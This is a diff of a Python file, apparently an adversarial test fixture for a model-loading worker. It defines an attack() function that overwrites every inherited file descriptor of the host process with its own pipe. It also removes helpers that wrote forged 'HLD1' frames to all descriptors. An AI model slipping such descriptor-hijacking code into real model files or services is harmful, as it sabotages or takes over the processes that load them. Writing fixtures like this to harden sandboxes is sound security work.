@@ -1,33 +1,20 @@
 """result: puts a pipe of its own in the place of every descriptor"""
 
-import json
 import os
-import struct
 
 from sklearn.dummy import DummyClassifier
 
 
-def frame(header, payload=b""):
-    text = header if isinstance(header, bytes) else json.dumps(header).encode()
-    return struct.pack("<4sIQ", b"HLD1", len(text), len(payload)) + text + payload
-
-
-def send(data):
-    for fd in range(3, 1024):
-        try:
-            os.write(fd, data)
-        except OSError:
-            pass
-
-
 def attack():
     reader, writer = os.pipe()
-    for fd in range(3, 64):
-        if fd not in (reader, writer):
-            try:
+    # However high its number: the worker that forked this process holds thousands.
+    for fd in range(3, 1 << 16):
+        try:
+            os.fstat(fd)
+            if fd not in (reader, writer):
                 os.dup2(writer, fd)
-            except OSError:
-                pass
+        except OSError:
+            pass
 
 
 class Model(DummyClassifier):
